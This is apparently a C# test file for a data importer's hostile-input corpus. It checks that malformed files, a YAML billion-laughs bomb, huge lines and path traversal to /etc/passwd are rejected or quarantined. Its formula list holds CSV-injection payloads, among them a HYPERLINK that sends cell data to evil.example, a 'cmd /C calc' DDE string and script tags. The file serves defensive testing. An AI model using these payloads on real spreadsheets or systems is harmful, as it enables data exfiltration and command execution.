using System.Text;
using DriftBoard.Core.Domain;
using DriftBoard.Storage.Formats;
using DriftBoard.Storage.Import;
using DriftBoard.Storage.ModelCards;
using DriftBoard.Storage.Tests.Storage;

namespace DriftBoard.Storage.Tests.Hostile;

/// <summary>What a hostile case must end in. Nothing else is allowed: no other exception type, no partial import.</summary>
public abstract record Outcome
{
    /// <summary>The import fails with a <see cref="DatasetContractException"/> naming <paramref name="File"/> (and the line when given); the database is unchanged.</summary>
    public sealed record Rejected(string File, long? Line, string Message) : Outcome;

    /// <summary>The import succeeds with <paramref name="Rows"/> predictions; the bad row is in quarantine at File:Line with the reason.</summary>
    public sealed record Quarantined(long Rows, string File, long Line, string Reason) : Outcome;

    /// <summary>The import succeeds with <paramref name="Rows"/> predictions and nothing quarantined; <paramref name="Check"/> looks at what was stored.</summary>
    public sealed record Imported(long Rows, Action<DatasetStoreView>? Check = null) : Outcome;
}

/// <summary>The imported dataset, for a case's own checks.</summary>
public sealed record DatasetStoreView(Store.DatasetStore Store, string DatasetId);

/// <summary>
/// The storage layer's hostile-input corpus: each case breaks the small valid <see cref="HostileFolder"/> one way, runs the
/// real importer over the files on disk (format readers, card parser, quarantine, one transaction) and checks the documented
/// outcome. docs/hostile-inputs.md lists the same cases.
/// </summary>
public sealed class HostileInputTests : IDisposable
{
    private readonly TempDatabase Db = new();

    private const string P = "predictions.csv";
    private const long MiB = 1 << 20;

    /// <summary>Text a spreadsheet would run as a formula if an export wrote it unescaped (OWASP CSV injection).</summary>
    public static readonly string[] Formulas = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "<script>alert(1)</script>", "[x](javascript:alert(1))"];

    private static readonly Dictionary<string, (Action<HostileFolder> Break, Outcome Expected)> Corpus = new()
    {
        // Whole-file problems: the import is refused, naming the file (and line), before or after some rows were written.
        ["empty predictions file"] = (f => f.Write(P, ""), new Outcome.Rejected(P, null, "file is empty")),
        ["header only"] = (f => f.Predictions(), new Outcome.Rejected(P, null, "no rows after its header")),
        ["binary garbage named .csv"] = (f => f.WriteBytes(P, Garbage(65_536)), new Outcome.Rejected(P, 1, "binary content")),
        ["100 MB single line"] = (f => f.OneHugeLine(P, HostileFolder.Header, 100 * MiB), new Outcome.Rejected(P, 2, "longer than 1 MiB")),
        ["unclosed quote swallowing the file"] = (f => f.PredictionsPlus([$"q1,{HostileFolder.Ts(1)},0.1,1,\"US,0,open", .. HostileFolder.PredictionLines(40_000).Select(l => "z" + l)]),
            new Outcome.Rejected(P, 22, "longer than 1 MiB")),
        ["truncated gzip"] = (f =>
        {
            f.UseCard("predictions.csv.gz");
            f.Gzip("predictions.csv.gz", string.Join('\n', [HostileFolder.Header, .. HostileFolder.PredictionLines(50_000)]));
            f.Truncate("predictions.csv.gz", 0.5);
        }, new Outcome.Rejected("predictions.csv.gz", null, "gzip data ends early")),
        ["not gzip at all, named .gz"] = (f =>
        {
            f.UseCard("predictions.csv.gz");
            f.Write("predictions.csv.gz", HostileFolder.Header + "\n");
        }, new Outcome.Rejected("predictions.csv.gz", 1, "not a valid CSV")),
        ["utf-16 without a BOM"] = (f => f.WriteBytes(P, Encoding.Unicode.GetBytes(HostileFolder.Header + "\n" + HostileFolder.PredictionLines()[0] + "\n")),
            new Outcome.Rejected(P, 1, "binary content")),
        ["duplicate header names"] = (f => f.WriteLines(P, [HostileFolder.Header + ",score", .. HostileFolder.PredictionLines().Select(l => l + ",1")]),
            new Outcome.Rejected(P, 1, "")),
        ["card column missing from the file"] = (f => f.WriteLines(P, [HostileFolder.Header.Replace("amount", "amt", StringComparison.Ordinal), .. HostileFolder.PredictionLines()]),
            new Outcome.Rejected(P, null, "column 'amount'")),
        ["every row bad"] = (f => f.Predictions([.. HostileFolder.PredictionLines().Select(l => l.Replace(",n", ",n,extra", StringComparison.Ordinal))]),
            new Outcome.Rejected(P, 2, "bad rows")),
        ["truncated parquet"] = (f =>
        {
            f.UseCard("predictions.parquet");
            f.PredictionsParquet("predictions.parquet", i => "0.5");
            f.Truncate("predictions.parquet", 0.6);
        }, new Outcome.Rejected("predictions.parquet", null, "not a valid Parquet")),
        ["garbage named .parquet"] = (f =>
        {
            f.UseCard("predictions.parquet");
            f.WriteBytes("predictions.parquet", Garbage(4096));
        }, new Outcome.Rejected("predictions.parquet", null, "not a valid Parquet")),
        ["jsonl line over the row limit"] = (f =>
        {
            f.UseCard("predictions.jsonl");
            f.OneHugeLine("predictions.jsonl", JsonLine(0), 3 * MiB);
        }, new Outcome.Rejected("predictions.jsonl", 2, "longer than 1 MiB")),

        // The model card.
        ["yaml bomb (billion laughs)"] = (f => f.Write("model_card.md", BillionLaughs()), new Outcome.Rejected("model_card.md", null, "YAML aliases")),
        ["yaml nested 10,000 deep"] = (f => f.Write("model_card.md", HostileFolder.Card().Replace("# Hostile", "", StringComparison.Ordinal)
            .Replace("features:", "deep: " + new string('[', 10_000) + new string(']', 10_000) + "\nfeatures:", StringComparison.Ordinal)),
            new Outcome.Rejected("model_card.md", 14, "nests deeper than 32")),
        ["card that is not YAML"] = (f => f.WriteBytes("model_card.md", Garbage(2048)), new Outcome.Rejected("model_card.md", null, "front matter")),
        ["card with a YAML syntax error"] = (f => f.Write("model_card.md", HostileFolder.Card().Replace("threshold: 0.5", "threshold: [0.5", StringComparison.Ordinal)),
            new Outcome.Rejected("model_card.md", null, "YAML syntax error")),
        ["card over 1 MiB"] = (f => f.Write("model_card.md", HostileFolder.Card() + new string('#', 1 << 20)), new Outcome.Rejected("model_card.md", null, "refusing cards over 1 MiB")),
        ["card naming a missing file"] = (f => f.UseCard(labelsFile: "nowhere.csv"), new Outcome.Rejected("nowhere.csv", null, "file not found")),
        ["card naming a file outside the folder"] = (f => f.UseCard(labelsFile: "../../../etc/hostname"), new Outcome.Rejected("model_card.md", null, "outside the dataset folder")),
        ["card naming an absolute path"] = (f => f.UseCard(predictionsFile: "/etc/passwd"), new Outcome.Rejected("model_card.md", null, "outside the dataset folder")),

        // Row problems: the row goes to quarantine with file, line and reason; the rest imports.
        ["short and long rows"] = (f => f.PredictionsPlus($"x1,{HostileFolder.Ts(1)},0.1,1,US", $"x2,{HostileFolder.Ts(1)},0.1,1,US,0,n,extra"),
            new Outcome.Quarantined(HostileFolder.Rows, P, 22, "expected 7 fields")),
        ["infinity score"] = (f => f.PredictionsPlus($"x1,{HostileFolder.Ts(1)},Infinity,1,US,0,n"), new Outcome.Quarantined(HostileFolder.Rows, P, 22, "not a number")),
        ["overflowing feature 1e400"] = (f => f.PredictionsPlus($"x1,{HostileFolder.Ts(1)},0.2,1e400,US,0,n"), new Outcome.Quarantined(HostileFolder.Rows, P, 22, "not a number")),
        ["-Infinity feature"] = (f => f.PredictionsPlus($"x1,{HostileFolder.Ts(1)},0.2,-Infinity,US,0,n"), new Outcome.Quarantined(HostileFolder.Rows, P, 22, "not a number")),
        ["duplicate prediction id"] = (f => f.PredictionsPlus(HostileFolder.PredictionLines()[3]), new Outcome.Quarantined(HostileFolder.Rows, P, 22, "duplicate id")),
        ["duplicate label id"] = (f => f.WriteLines("chargebacks.csv", ["txn_id,reported_at", $"t0,{HostileFolder.Ts(30)}", $"t0,{HostileFolder.Ts(31)}"]),
            new Outcome.Quarantined(HostileFolder.Rows, "chargebacks.csv", 3, "duplicate id")),
        ["timestamp in year 9999"] = (f => f.PredictionsPlus($"x1,9999-12-31T00:00:00Z,0.2,1,US,0,n"), new Outcome.Quarantined(HostileFolder.Rows, P, 22, "timestamp outside")),
        ["timestamp before 1970"] = (f => f.PredictionsPlus($"x1,1969-07-20T20:17:00Z,0.2,1,US,0,n"), new Outcome.Quarantined(HostileFolder.Rows, P, 22, "timestamp outside")),
        ["not a timestamp"] = (f => f.PredictionsPlus($"x1,yesterday,0.2,1,US,0,n"), new Outcome.Quarantined(HostileFolder.Rows, P, 22, "not a timestamp")),
        ["jsonl line that is not an object"] = (f =>
        {
            f.UseCard("predictions.jsonl");
            f.WriteLines("predictions.jsonl", [.. Enumerable.Range(0, HostileFolder.Rows).Select(JsonLine), "[1,2,3]"]);
        }, new Outcome.Quarantined(HostileFolder.Rows, "predictions.jsonl", 21, "not a JSON object")),
        ["parquet score stored as text"] = (f =>
        {
            f.UseCard("predictions.parquet");
            f.PredictionsParquet("predictions.parquet", i => i == 4 ? "high" : "0.5");
        }, new Outcome.Quarantined(HostileFolder.Rows - 1, "predictions.parquet", 6, "not a number")),

        // Documented handling: imported as is.
        ["NaN score and feature"] = (f => f.PredictionsPlus($"x1,{HostileFolder.Ts(1)},NaN,NaN,US,0,n"),
            new Outcome.Imported(HostileFolder.Rows + 1, v =>
            {
                var frame = v.Store.LoadProduction(v.DatasetId);
                var row = Array.IndexOf(v.Store.LoadText(v.DatasetId, "txn_id"), "x1");
                Assert.True(double.IsNaN(frame.Scores[row]) && double.IsNaN(((NumericColumn)frame.Features["amount"]).Values[row]));
                Assert.Equal(0, frame.Predictions[row]); // a missing score is never flagged
            })),
        ["timestamps out of order"] = (f => f.Predictions([.. HostileFolder.PredictionLines().Reverse()]),
            new Outcome.Imported(HostileFolder.Rows, v =>
            {
                var days = v.Store.LoadProduction(v.DatasetId).Timestamps.Select(ts => ts / 86_400_000).ToArray();
                Assert.Equal(days.Order(), days); // stored by day whatever the file order
            })),
        ["utf-8 BOM"] = (f => f.WriteBytes(P, [0xEF, 0xBB, 0xBF, .. Encoding.UTF8.GetBytes(string.Join('\n', [HostileFolder.Header, .. HostileFolder.PredictionLines()]))]),
            new Outcome.Imported(HostileFolder.Rows)),
        ["utf-16 with a BOM"] = (f => f.WriteBytes(P, Encoding.Unicode.GetPreamble().Concat(Encoding.Unicode.GetBytes(string.Join('\n', [HostileFolder.Header, .. HostileFolder.PredictionLines()]))).ToArray()),
            new Outcome.Imported(HostileFolder.Rows)),
        ["latin-1 bytes in a utf-8 file"] = (f => f.WriteBytes(P, [.. Encoding.UTF8.GetBytes(string.Join('\n', [HostileFolder.Header, .. HostileFolder.PredictionLines()]) + $"\nx1,{HostileFolder.Ts(1)},0.2,1,Z"), 0xFC, .. "rich,0,caf\u00e9\n"u8]),
            new Outcome.Imported(HostileFolder.Rows + 1, v =>
                Assert.Contains("Z\uFFFDrich", ((CategoricalColumn)v.Store.LoadProduction(v.DatasetId).Features["country"]).Categories))),
        ["CRLF and CR line endings"] = (f => f.Write(P, string.Join("\r\n", [HostileFolder.Header, .. HostileFolder.PredictionLines()[..10]]) + "\r\n" + string.Join("\r", HostileFolder.PredictionLines()[10..]) + "\r"),
            new Outcome.Imported(HostileFolder.Rows)),
        ["quotes, separators and newlines in a text value"] = (f => f.PredictionsPlus($"x1,{HostileFolder.Ts(1)},0.2,1,US,0,\"a,b \"\"c\"\"\nd\""),
            new Outcome.Imported(HostileFolder.Rows + 1, v => Assert.Contains("a,b \"c\"\nd", v.Store.LoadText(v.DatasetId, "note")))),
        ["spreadsheet formulas in text values"] = (f => f.PredictionsPlus([.. Formulas.Select((formula, i) => $"x{i},{HostileFolder.Ts(1)},0.2,1,{Quote(formula)},0,{Quote(formula)}")]),
            new Outcome.Imported(HostileFolder.Rows + Formulas.Length, v =>
            {
                // Stored as data, byte for byte: escaping is the exporter's job, not the importer's.
                var notes = v.Store.LoadText(v.DatasetId, "note");
                Assert.All(Formulas, formula => Assert.Contains(formula, notes));
                Assert.All(Formulas, formula => Assert.Contains(formula, ((CategoricalColumn)v.Store.LoadProduction(v.DatasetId).Features["country"]).Categories));
            })),
        ["100,000 distinct categories"] = (f => f.Predictions([.. Enumerable.Range(0, 100_000).Select(i => $"t{i},{HostileFolder.Ts(i % 20)},0.5,1,c{i},0,n")]),
            new Outcome.Imported(100_000, v =>
            {
                var country = (CategoricalColumn)v.Store.LoadProduction(v.DatasetId, ["country"]).Features["country"];
                // The declared US and DE, then the first values seen up to the cap, then one shared "(other)".
                Assert.Equal(CategoryLimits.MaxValuesPerFeature + 1, country.Categories.Count);
                Assert.Equal(CategoryLimits.OtherValue, country.Categories[^1]);
                Assert.Equal(country.Categories.Count - 1, country.Codes[^1]);
                Assert.Equal("c0", country.Categories[country.Codes[0]]);
            })),
    };

    private static string Quote(string value) => "\"" + value.Replace("\"", "\"\"", StringComparison.Ordinal) + "\"";

    private static string JsonLine(int i) =>
        $$"""{"txn_id":"t{{i}}","ts":"{{HostileFolder.Ts(i)}}","score":0.5,"amount":{{i}},"country":"US","is_new":false}""";

    private static byte[] Garbage(int bytes)
    {
        var data = new byte[bytes];
        new Random(20_241_004).NextBytes(data);
        data[3] = 0; // a NUL early in the first line, as in any binary format
        return data;
    }

    private static string BillionLaughs()
    {
        var yaml = new StringBuilder("lol0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n");
        for (var i = 1; i < 13; i++) // 12 levels of 9 aliases: 9^12 strings if expanded, 108 aliases
            yaml.Append($"lol{i}: &a{i} [{string.Join(", ", Enumerable.Repeat($"*a{i - 1}", 9))}]\n");
        return HostileFolder.Card().Replace("model: hostile\n", "model: hostile\n" + yaml, StringComparison.Ordinal);
    }

    public static TheoryData<string> Cases() => [.. Corpus.Keys];

    private readonly HostileFolder _folder = new();
    private readonly string _before;

    public HostileInputTests()
    {
        // A dataset already there, so "unchanged" covers existing rows, not only an empty file.
        var baseline = new HostileFolder();
        baseline.WriteGood();
        Db.Importer.Import(baseline.Path, new ImportOptions(Name: "baseline"));
        baseline.Dispose();
        _before = Db.Snapshot();
        _folder.WriteGood();
    }

    [Theory]
    [MemberData(nameof(Cases))]
    public void Hostile_input_ends_in_its_documented_outcome(string name)
    {
        var (breakFolder, expected) = Corpus[name];
        breakFolder(_folder);

        ImportResult? result = null;
        Exception? error = null;
        try
        {
            result = Db.Importer.Import(_folder.Path, new ImportOptions(Name: "case", MaxBadRowShare: 0.5));
        }
        catch (Exception e) when (e is DatasetContractException)
        {
            error = e;
        }
        // Any other exception type escapes the catch and fails the test: a crash is never an outcome.

        switch (expected)
        {
            case Outcome.Rejected rejected:
                var contract = Assert.IsType<DatasetContractException>(error);
                Assert.Equal(rejected.File, Path.GetFileName(contract.File));
                Assert.StartsWith(rejected.File + (rejected.Line is { } line ? $":{line}" : ""), contract.Message);
                Assert.Contains(rejected.Message, contract.Message);
                Assert.Equal(_before, Db.Snapshot());
                break;
            case Outcome.Quarantined quarantined:
                Assert.True(error is null, error?.Message);
                Assert.Equal(quarantined.Rows, result!.Rows);
                var bad = Assert.Single(Db.Store.Quarantine(result.DatasetId), q => q.Line == quarantined.Line);
                Assert.Equal(quarantined.File, Path.GetFileName(bad.File));
                Assert.Contains(quarantined.Reason, bad.Reason);
                break;
            case Outcome.Imported imported:
                Assert.True(error is null, error?.Message);
                Assert.Equal((imported.Rows, 0L), (result!.Rows, result.QuarantinedRows));
                imported.Check?.Invoke(new DatasetStoreView(Db.Store, result.DatasetId));
                break;
        }
    }

    [Fact]
    public void The_corpus_holds_at_least_thirty_cases() => Assert.True(Corpus.Count >= 30, $"{Corpus.Count} cases");

    [Fact]
    public void A_100_MB_line_fails_fast_with_bounded_memory()
    {
        _folder.OneHugeLine(P, HostileFolder.Header, 100 * MiB);
        var allocated = GC.GetAllocatedBytesForCurrentThread();

        var error = Assert.Throws<DatasetContractException>(() =>
        {
            using var reader = TabularReader.Open(_folder.File(P));
            while (reader.Read()) { }
        });

        // The reader stops at the limit: a few MiB of buffers, never the line (100 MiB of bytes, 200 MiB as chars).
        Assert.True(GC.GetAllocatedBytesForCurrentThread() - allocated < 16 * MiB, $"{(GC.GetAllocatedBytesForCurrentThread() - allocated) / MiB} MiB allocated");
        Assert.StartsWith("predictions.csv:2", error.Message);
    }

    [Fact]
    public void The_row_limit_is_configurable()
    {
        _folder.PredictionsPlus($"x1,{HostileFolder.Ts(1)},0.2,1,US,0,{new string('y', 5000)}");
        var strict = new DatasetImporter(Db.Database) { ReaderLimits = new TabularReaderLimits(MaxRowBytes: 4096) };

        var error = Assert.Throws<DatasetContractException>(() => strict.Import(_folder.Path, new ImportOptions(Name: "strict")));

        Assert.StartsWith("predictions.csv:22", error.Message);
        Assert.Contains("4,096 bytes", error.Message);
        Assert.Equal(HostileFolder.Rows + 1, Db.Importer.Import(_folder.Path, new ImportOptions(Name: "default")).Rows);
    }

    public void Dispose()
    {
        _folder.Dispose();
        Db.Dispose();
    }
}
